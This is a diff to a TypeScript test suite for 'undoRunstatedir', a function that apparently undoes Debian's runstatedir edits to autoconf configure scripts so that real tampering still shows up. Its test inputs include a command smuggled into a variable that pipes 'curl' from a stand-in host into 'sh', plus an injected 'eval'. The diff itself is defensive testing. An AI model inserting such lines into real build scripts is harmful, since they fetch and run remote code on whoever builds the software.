@@ -76,6 +76,15 @@ describe('undoRunstatedir', () => {
     expect(undoRunstatedir(debian.replace('gl_pthread_api=$gl_pthread_api', 'gl_pthread_api=$(curl -s x.invalid|sh)'))?.text).not.toBe(gnu);
   });
 
+  it("__oline__ in a hand-written check's `#line N \"configure\"` and `echo configure:N:` lines (libxml2 2.9.14) is renumbered too; other numbers are not", () => {
+    const n = GNU.split('\n').length;
+    const tail = (o: number) => ['cat > conftest.$ac_ext <<EOF', `#line ${n + 1 + o} "configure"`, '#include "confdefs.h"', 'EOF', `if { (eval echo configure:${n + 4 + o}: \\"$ac_compile\\") 1>&5; }; then`, '#line 3 "configure"', ''].join('\n');
+    expect(undoRunstatedir(DEBIAN + tail(12))).toEqual({ text: GNU + tail(0), normalisation: { kind: 'debian-runstatedir', args: { renumbered: 2 } } });
+    // What a tamperer would change: a number that is not the line's own stays as it is, so the file still differs.
+    expect(undoRunstatedir(DEBIAN + tail(12).replace(`configure:${n + 16}:`, `configure:${n + 15}:`))?.text).not.toBe(GNU + tail(0));
+    expect(undoRunstatedir(DEBIAN + tail(12).replace('#include "confdefs.h"', '#include "/tmp/x.h"'))?.text).not.toBe(GNU + tail(0));
+  });
+
   it('undoes nothing when a block is missing, doubled or altered', () => {
     expect(undoRunstatedir(GNU)).toBeUndefined();
     expect(undoRunstatedir(DEBIAN.replace("runstatedir=$ac_optarg ;;", 'runstatedir=$ac_optarg; eval "$x" ;;'))).toBeUndefined();
